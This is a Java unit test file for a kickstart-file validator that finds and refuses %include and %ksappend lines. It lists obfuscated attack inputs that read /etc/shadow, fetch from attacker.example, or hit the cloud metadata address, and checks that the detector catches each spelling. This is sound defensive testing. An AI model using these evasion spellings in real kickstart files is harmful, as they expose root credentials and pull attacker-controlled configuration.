package org.fbs.spec;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Every spelling of an include that pykickstart 3.74 (parser.py: shlex with comments in the command section, the
 * first word inside sections, str.strip() for %ksappend, str.splitlines() for lines) would honour is found.
 */
public class KickstartIncludesTest {

    /** Each one would make pykickstart, ksflatten or anaconda read /etc/shadow (or fetch a URL) as root. */
    public static final List<String> ATTACKS = List.of(
        "%include /etc/shadow",
        "%include /etc/shadow # note",
        "%include /etc/shadow#note",
        "   %include /etc/shadow",
        "\t%include\t/etc/shadow\t",
        "%include \"/etc/shadow\"",
        "%include '/etc/shadow' trailing tokens",
        "\"%include\" /etc/shadow",
        "'%include' /etc/shadow",
        "%in\"clude\" /etc/shadow",
        "%in\\clude /etc/shadow",
        "\\%include /etc/shadow",
        "%include ../../../../etc/shadow",
        "%include relative.ks",
        "%include https://attacker.example/x.ks",
        "%include http://169.254.169.254/latest/meta-data/",
        "%include file:///etc/shadow",
        "%INCLUDE /etc/shadow",
        "%Include /etc/shadow",
        "\u00a0%include /etc/shadow",
        "\ufeff%include /etc/shadow",
        "\u200b%include /etc/shadow",
        "%ksappend /etc/shadow",
        "%ksappend /etc/shadow # note",
        "  %ksappend http://attacker.example/x.ks",
        "%ksappendx /etc/shadow",
        "\u3000%ksappend /etc/shadow",
        "%KSAPPEND /etc/shadow");

    @Test
    void everySpellingPykickstartWouldHonourIsFoundWithItsLine() {
        for (String attack : ATTACKS) {
            String kickstart = "url --url=https://example.org/os/\nrootpw --lock\n" + attack + "\n%packages\n@core\n%end\n";

            KickstartIncludes.Include found = KickstartIncludes.first(kickstart);

            assertThat(found).as(attack).isEqualTo(new KickstartIncludes.Include(3, attack));
        }
    }

    @Test
    void insideEverySectionToo() {
        for (String section : List.of("%pre", "%post --nochroot", "%post", "%packages", "%pre-install", "%traceback",
            "%onerror")) {
            String kickstart = section + "\necho hello\n  %include /etc/shadow\n%end\n";

            assertThat(KickstartIncludes.first(kickstart)).as(section)
                .isEqualTo(new KickstartIncludes.Include(3, "  %include /etc/shadow"));
        }
    }

    @Test
    void aLineEndPythonSeesButJavaLinesDoesNotStillSplitsTheLine() {
        // str.splitlines() ends a line at each of these; "echo hi<sep>%include /etc/shadow" is two lines to pykickstart.
        for (String separator : List.of("\r", "\u000b", "\u000c", "\u001c", "\u001d", "\u001e", "\u0085", "\u2028",
            "\u2029")) {
            String kickstart = "rootpw --lock\necho hi" + separator + "%include /etc/shadow\n";

            assertThat(KickstartIncludes.first(kickstart)).as("U+%04x", (int) separator.charAt(0))
                .isEqualTo(new KickstartIncludes.Include(3, "%include /etc/shadow"));
        }
        assertThat(KickstartIncludes.lines("a\r\nb\rc\n\nd")).containsExactly("a", "b", "c", "", "d");
    }

    @Test
    void linesThatOnlyMentionAnIncludeAreNotOne() {
        String kickstart = """
            # %include /etc/shadow is a comment
            #%include /etc/shadow
            rootpw --lock
            %post
            echo %include /etc/shadow
            grep -q '%ksappend' /root/anaconda-ks.cfg || true
            %end
            """;

        assertThat(KickstartIncludes.first(kickstart)).isNull();
        assertThat(KickstartIncludes.first("")).isNull();
    }

    @Test
    void theRefusalNamesTheFirstLineAndSaysWhatToDo() {
        assertThatThrownBy(() -> KickstartIncludes.refuse("kickstart a.ks: ",
            "rootpw --lock\n%include /etc/shadow # note\n%ksappend /x\n"))
            .isInstanceOf(KickstartException.class)
            .hasMessage("kickstart a.ks: line 2 (%include /etc/shadow # note) includes another file: a build brings"
                + " exactly one kickstart, so %include and %ksappend are refused; flatten it first"
                + " (ksflatten -c KICKSTART -o FLAT.ks) and send the flat file");
    }

    @Test
    void theLineIsShownWithItsControlCharactersEscapedAndCut() {
        assertThat(new KickstartIncludes.Include(1, "\ufeff%include\t/x\u0000").describe())
            .isEqualTo("line 1 (\\ufeff%include\\t/x\\u0000)");
        assertThat(new KickstartIncludes.Include(9, "%include /" + "a".repeat(500)).describe())
            .isEqualTo("line 9 (%include /" + "a".repeat(110) + "...)");
    }
}
